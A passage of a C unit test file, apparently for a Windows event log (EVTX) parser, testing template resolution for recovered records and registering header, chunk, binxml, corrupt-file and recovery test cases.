	size_t nc[] = { 1, NELEM(own_forged) }, nd[] = { 1, 2, 1 };
	size_t rev3[] = { 2, 1, 0 };
	struct tpl_seen s;

	late_read(a, na, 1, NULL, false, true, true, &s);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
	late_read(b, nb, 1, NULL, false, true, true, &s);
	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
	late_read(b, nb, 1, NULL, true, true, true, &s);
	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
	late_read(c, nc, 2, NULL, false, true, true, &s);
	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
	late_read(d, nd, 3, NULL, false, true, true, &s);
	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
	late_read(d, nd, 3, rev3, true, true, true, &s);
	ck_assert_str_eq(s.pairs, FORGED_PAIRS);
	late_read(e, nd, 3, rev3, false, true, true, &s);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
}
END_TEST

/*
 * Candidates whose definition does not fit: once the record was decoded
 * with one of them, the others are passed over by their substitution
 * signature, never the one that fits, which may come after them; with
 * none fitting, the record stays positional.  The same for any reading
 * order.
 */
START_TEST(template_misfit_skip)
{
	static const struct late_ev misfit[] = { { 'm', false } };
	static const struct late_ev slack[] = { { 'n', false }, { 's', false } };
	static const struct late_ev real[] = { { 'p', false } };
	const struct late_ev *a[] = { misfit, misfit, slack, real };
	const struct late_ev *b[] = { misfit, misfit, slack, slack };
	size_t na[] = { 1, 1, 2, 1 }, nb[] = { 1, 1, 2, 2 };
	size_t rev[] = { 3, 2, 1, 0 };
	struct tpl_seen s;

	late_read(a, na, 4, NULL, false, true, true, &s);
	ck_assert_int_eq(s.recovered, 1);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
	late_read(a, na, 4, rev, true, true, true, &s);
	ck_assert(!s.unresolved);
	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
	/* two records: the second passes over a signature already known */
	late_read(b, nb, 4, NULL, false, true, true, &s);
	ck_assert_int_eq(s.recovered, 2);
	ck_assert(s.unresolved);
	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
	late_read(b, nb, 4, rev, true, true, true, &s);
	ck_assert_int_eq(s.recovered, 2);
	ck_assert(s.unresolved);
	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
}
END_TEST

static Suite *
evtx_suite(void)
{
	Suite *s = suite_create("evtx");
	TCase *tc;

	tc = tcase_create("header");
	tcase_add_loop_test(tc, header_table, 0, NELEM(header_cases));
	tcase_add_test(tc, header_fields);
	suite_add_tcase(s, tc);

	tc = tcase_create("chunk");
	tcase_add_test(tc, chunk_crc);
	tcase_add_test(tc, chunk_truncated);
	tcase_add_test(tc, chunk_parallel);
	suite_add_tcase(s, tc);

	tc = tcase_create("binxml");
	tcase_add_loop_test(tc, binxml_values, 0, NELEM(value_cases));
	tcase_add_test(tc, binxml_utf16_paths);
	tcase_add_test(tc, binxml_raw_record);
	tcase_add_test(tc, binxml_userdata);
	tcase_add_test(tc, binxml_string_array);
	tcase_add_test(tc, binxml_crc32);
	suite_add_tcase(s, tc);

	tc = tcase_create("corrupt");
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, corrupt_0001_binxml_depth);
	tcase_add_test(tc, corrupt_0002_template_cycle);
	tcase_add_test(tc, corrupt_0003_mutations);
	tcase_add_test(tc, corrupt_0004_broken_binxml);
	tcase_add_test(tc, corrupt_0005_truncated);
	tcase_add_test(tc, corrupt_0006_free_space_cut);
	tcase_add_test(tc, corrupt_0007_unlinked_record);
	tcase_add_test(tc, corrupt_0008_zero_chunk);
	tcase_add_test(tc, corrupt_0009_sparse_file);
	tcase_add_test(tc, corrupt_0010_nul_in_value);
	suite_add_tcase(s, tc);

	tc = tcase_create("recovered");
	tcase_add_test(tc, recovered_slack);
	tcase_add_test(tc, recovered_hidden_chunk);
	tcase_add_test(tc, recovered_dedup);
	tcase_add_test(tc, template_verify_reject);
	tcase_add_test(tc, template_guid_in_chunk);
	tcase_add_test(tc, template_tokens_misfit);
	tcase_add_test(tc, template_cross_chunk);
	tcase_add_test(tc, template_cross_file);
	tcase_add_test(tc, template_cross_file_provider);
	tcase_add_test(tc, template_late_reread);
	tcase_add_test(tc, template_slack_only);
	tcase_add_test(tc, template_tie_break);
	tcase_add_test(tc, template_misfit_skip);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(evtx_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? 0 : 1;
}
